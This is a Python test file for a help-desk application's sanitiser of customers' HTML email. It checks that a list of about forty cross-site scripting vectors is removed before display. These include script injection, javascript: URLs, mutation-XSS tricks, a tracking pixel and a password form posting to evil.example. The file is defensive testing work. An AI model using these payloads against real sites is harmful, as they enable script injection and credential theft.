"""Customers' HTML mail: shown as it was formatted, with nothing left in it that acts, loads or hides."""

from __future__ import annotations

import time
from datetime import datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from api_client import Program
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from kulanz.desk.models import Case, Member, Message, Person
from kulanz.desk.rules.addresses import signed_address
from kulanz.desk.rules.letters import MOST_TAGS, harmless
from kulanz.desk.services import outgoing, sealing
from kulanz.desk.services.conversing import LONGEST_HTML, receive

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<IMG SRC=jAVasCrIPt:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' onclick=alert(1) style=position:fixed target=_top>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<table background='javascript:alert(1)'><tr><td background=https://evil.example/x>x</table>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p id=location name=body class=message>x</p>",
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]><!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><?import namespace='t'?>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<h1 onmouseover=alert(1)>Big</h1><h2/onclick=alert(1)>x",
    "'\"><script>alert(1)</script>",
    "</div></article></main><h1>Log in again</h1>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
ALLOWED = {"a": {"href", "rel", "target"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}}
TAGS = set(
    (  # noqa: SIM905 - easier to read
        "a abbr b blockquote br caption cite code dd del div dl dt em hr i ins li ol p pre q s small span"
        " strong sub sup table tbody td tfoot th thead tr u ul"
    ).split()
)


class Seen(HTMLParser):
    """What a reader of the HTML meets: elements with their attributes, in order."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)


def check(html: str) -> None:
    """Fail for anything in cleaned HTML that is more than words, their order, and links that are safe."""
    seen = Seen(html)
    assert (seen.other, seen.open) == ([], [])
    for tag, attributes in seen.elements:
        assert tag in TAGS
        assert attributes.keys() <= ALLOWED.get(tag, set())
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
        if "href" in attributes:
            assert urlsplit(attributes["href"] or "").scheme in {"http", "https", "mailto", "tel"}


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_active_survives(vector: str) -> None:
    check(harmless(vector))
    check(harmless(f"<table><tr><td><p>Hello {vector} world"))
    assert "alert(1)</script>" not in harmless(vector)


@given(
    st.lists(
        st.sampled_from((*VECTORS, "<p>", "</p>", "<table>", "<style>", "<!--", "-->", "<b ")) | st.text()
    )
)
def test_nothing_active_survives_in_any_mixture(parts: list[str]) -> None:
    cleaned = harmless("".join(parts))
    check(cleaned)
    assert Seen(harmless(cleaned)).elements == Seen(cleaned).elements


@given(st.sampled_from(VECTORS), st.data())
def test_nothing_active_survives_being_cut(vector: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(vector)))
    check(harmless(vector[start:] + vector[:start]))


def test_what_people_format_stays() -> None:
    html = (
        "<style>p{color:red}</style><h1>Complaint</h1><p>I paid <b>twice</b>:</p><ul><li>3 May</ul>"
        "<a href='https://shop.example/1?a=1&b=2'>Order</a><a href='/logout'>x</a><img src=cid:logo>"
    )
    shown = harmless(html)
    assert shown.startswith("<p>Complaint</p><p>I paid <b>twice</b>:</p><ul><li>3 May</li></ul><a href=")
    links = [attributes.get("href") for tag, attributes in Seen(shown).elements if tag == "a"]
    assert links == ["https://shop.example/1?a=1&b=2", None]


def test_html_without_words_is_none() -> None:
    assert harmless("<p> </p><img src=x><style>a{}</style>") == ""


def test_deep_and_long_letters_take_no_time() -> None:
    began = time.monotonic()
    pieces = ("<div>", "<table><tr><td>", "<b><p>", "<a href=x ", "&", "<svg><math>", "</p>")
    for piece in pieces:
        harmless(piece * (LONGEST_HTML // len(piece)))
        harmless(piece * (MOST_TAGS // max(piece.count("<"), 1)))
    assert time.monotonic() - began < 20


@pytest.fixture
def case(db: None, now: datetime) -> Case:
    person = Person.objects.create(name="Rolf", email="rolf@mauer.example", created_at=now)
    return Case.objects.create(
        person=person,
        title="Dunning",
        email="rolf@mauer.example",
        reply_key="0123456789abcdef0123",
        opened_at=now,
    )


def letter(case: Case, html: str) -> bytes:
    key = sealing.derived_keys(outgoing.ADDRESS_KEY)[0]
    message = EmailMessage()
    message["From"], message["Subject"] = "rolf@mauer.example", "Dunning"
    message["To"] = signed_address("kulanz@kontaktor.example", case.reply_key, key)
    message["Date"], message["Message-ID"] = "Thu, 11 Jun 2026 11:20:00 +0200", "<h1@mauer.example>"
    message.set_content("I paid twice.")
    message.add_alternative(html, subtype="html")
    return message.as_bytes()


def page(case: Case, members: dict[str, Member], client: Client) -> str:
    client.force_login(members["bob"])
    answer = client.get(f"/cases/{case.pk}")
    assert "'unsafe-inline'" not in answer.headers["Content-Security-Policy"]
    assert "img-src 'self' data:;" in answer.headers["Content-Security-Policy"] + ";"
    return answer.content.decode()


def test_a_letter_is_shown_as_it_was_formatted(
    case: Case, members: dict[str, Member], client: Client, now: datetime
) -> None:
    html = "<p>I paid <b>twice</b>.</p><script>alert(1)</script><img src='https://evil.example/p.gif'>"
    assert receive(content=letter(case, html), now=now) == "kept"
    shown = page(case, members, client)
    assert '<div class="letter scroll"><p>I paid <b>twice</b>.</p></div>' in shown
    assert '<p class="words">I paid twice.</p>' in shown
    assert "evil.example" not in shown
    assert "alert(1)" not in shown
    (told,) = Program(members["bob"]).get(f"/cases/{case.pk}/messages").json()["items"]
    assert told["html"] == "<p>I paid <b>twice</b>.</p>"


@pytest.mark.parametrize("html", ["<img src=x>", f"<p>{'x' * LONGEST_HTML}</p>"])
def test_without_usable_html_the_text_is_shown(
    case: Case, members: dict[str, Member], client: Client, now: datetime, html: str
) -> None:
    receive(content=letter(case, html), now=now)
    shown = page(case, members, client)
    assert 'class="letter' not in shown
    assert '<p class="words">I paid twice.</p>' in shown
    assert Message.objects.get().text == "I paid twice."
